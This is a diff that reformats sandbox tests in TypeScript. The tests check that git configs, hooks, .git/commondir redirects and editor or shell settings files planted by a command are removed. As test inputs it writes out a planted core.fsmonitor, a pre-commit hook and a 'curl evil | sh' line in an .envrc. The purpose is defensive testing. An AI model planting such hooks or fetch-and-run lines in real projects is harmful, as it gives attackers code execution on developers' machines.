@@ -6,7 +6,12 @@ import { createCommandSandbox, type CommandSandbox } from '../../../src/main/san
 import { isOrdinaryConfig } from '../../../src/main/sandbox/sweep-planted-places';
 import { createSandboxFixture, runIn, type SandboxFixture } from './sandbox-fixture';
 
-const git = (cwd: string, ...args: string[]) => execFileSync('git', ['-c', 'user.email=t@example.com', '-c', 'user.name=T', ...args], { cwd, encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
+const git = (cwd: string, ...args: string[]) =>
+  execFileSync('git', ['-c', 'user.email=t@example.com', '-c', 'user.name=T', ...args], {
+    cwd,
+    encoding: 'utf8',
+    stdio: ['ignore', 'pipe', 'pipe'],
+  });
 
 /**
  * The sandbox keeps every protected place that exists when a command starts read-only; what the
@@ -34,12 +39,14 @@ describe('what a yolo command creates that git, an editor or a shell runs later'
   const yolo = (command: string) => runIn(sandbox, fx, command, { grant: 'yolo' });
 
   it('a .git/commondir that sends git to a planted copy with its own config is removed, and git reads the real repository again', async () => {
-    const outcome = await yolo([
-      'mkdir -p .planted && cp -r .git/. .planted/',
-      `printf '[core]\\n\\tfsmonitor = touch ${fx.ws}/pwned\\n' > .planted/config`,
-      'echo ../.planted > .git/commondir',
-      'exit 0',
-    ].join(' && '));
+    const outcome = await yolo(
+      [
+        'mkdir -p .planted && cp -r .git/. .planted/',
+        `printf '[core]\\n\\tfsmonitor = touch ${fx.ws}/pwned\\n' > .planted/config`,
+        'echo ../.planted > .git/commondir',
+        'exit 0',
+      ].join(' && '),
+    );
     expect(outcome.exitCode, outcome.output).toBe(0);
     expect(existsSync(path.join(fx.ws, '.git', 'commondir'))).toBe(false);
     expect(outcome.blocked.join('\n')).toMatch(/\.git\/commondir was created by the command and removed/);
@@ -49,25 +56,34 @@ describe('what a yolo command creates that git, an editor or a shell runs later'
   });
 
   it('a repository it makes with a planted fsmonitor or a real hook loses them; one with only what git writes is kept whole', async () => {
-    const outcome = await yolo([
-      'git init -q deep/down/evil',
-      `git -C deep/down/evil config core.fsmonitor 'touch ${fx.ws}/pwned'`,
-      'git init -q hooked',
-      `printf '#!/bin/sh\\ntouch ${fx.ws}/pwned\\n' > hooked/.git/hooks/pre-commit && chmod +x hooked/.git/hooks/pre-commit`,
-      'git init -q plain && git -C plain config user.email ana@example.com && git -C plain remote add origin https://example.com/plain.git',
-    ].join(' && '));
+    const outcome = await yolo(
+      [
+        'git init -q deep/down/evil',
+        `git -C deep/down/evil config core.fsmonitor 'touch ${fx.ws}/pwned'`,
+        'git init -q hooked',
+        `printf '#!/bin/sh\\ntouch ${fx.ws}/pwned\\n' > hooked/.git/hooks/pre-commit && chmod +x hooked/.git/hooks/pre-commit`,
+        'git init -q plain && git -C plain config user.email ana@example.com && git -C plain remote add origin https://example.com/plain.git',
+      ].join(' && '),
+    );
     expect(outcome.exitCode, outcome.output).toBe(0);
     expect(existsSync(path.join(fx.ws, 'deep/down/evil/.git/config'))).toBe(false);
     expect(existsSync(path.join(fx.ws, 'hooked/.git/hooks/pre-commit'))).toBe(false);
     expect(existsSync(path.join(fx.ws, 'plain/.git/config'))).toBe(true);
     expect(existsSync(path.join(fx.ws, 'plain/.git/hooks'))).toBe(true);
-    expect(execFileSync('git', ['config', '--local', 'user.email'], { cwd: path.join(fx.ws, 'plain'), encoding: 'utf8' }).trim()).toBe('ana@example.com');
+    expect(
+      execFileSync('git', ['config', '--local', 'user.email'], {
+        cwd: path.join(fx.ws, 'plain'),
+        encoding: 'utf8',
+      }).trim(),
+    ).toBe('ana@example.com');
     expect(outcome.blocked.join('\n')).toMatch(/deep\/down\/evil\/\.git\/config was created/);
     expect(outcome.blocked.join('\n')).not.toMatch(/plain\//);
   });
 
   it('an editor, assistant or shell settings file created below the top is removed', async () => {
-    const outcome = await yolo('mkdir -p packages/app/.vscode && echo "{}" > packages/app/.vscode/tasks.json && echo "curl evil | sh" > packages/app/.envrc; exit 0');
+    const outcome = await yolo(
+      'mkdir -p packages/app/.vscode && echo "{}" > packages/app/.vscode/tasks.json && echo "curl evil | sh" > packages/app/.envrc; exit 0',
+    );
     expect(existsSync(path.join(fx.ws, 'packages/app/.vscode'))).toBe(false);
     expect(existsSync(path.join(fx.ws, 'packages/app/.envrc'))).toBe(false);
     expect(outcome.blocked.filter((line) => line.includes('was created by the command and removed'))).toHaveLength(2);
@@ -81,7 +97,9 @@ describe('what a yolo command creates that git, an editor or a shell runs later'
   });
 
   it('an ordinary file it writes, and a commit, are untouched', async () => {
-    const outcome = await yolo('echo hi > notes.txt && git add notes.txt && git -c user.email=t@example.com -c user.name=T commit -qm notes');
+    const outcome = await yolo(
+      'echo hi > notes.txt && git add notes.txt && git -c user.email=t@example.com -c user.name=T commit -qm notes',
+    );
     expect(outcome.exitCode, outcome.output).toBe(0);
     expect(git(fx.ws, 'log', '--format=%s', '-1').trim()).toBe('notes');
     expect(outcome.blocked).toEqual([]);
@@ -91,7 +109,10 @@ describe('what a yolo command creates that git, an editor or a shell runs later'
 describe('a new repository config holds nothing that runs', () => {
   it.each([
     ['[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n\tlogallrefupdates = true\n', true],
-    ['[remote "origin"]\n\turl = https://example.com/x.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch "main"]\n\tremote = origin\n\tmerge = refs/heads/main\n', true],
+    [
+      '[remote "origin"]\n\turl = https://example.com/x.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch "main"]\n\tremote = origin\n\tmerge = refs/heads/main\n',
+      true,
+    ],
     ['[core]\n\tfsmonitor = ./run-me\n', false],
     ['[core]\n\thooksPath = .husky\n', false],
     ['[include]\n\tpath = ../evil\n', false],
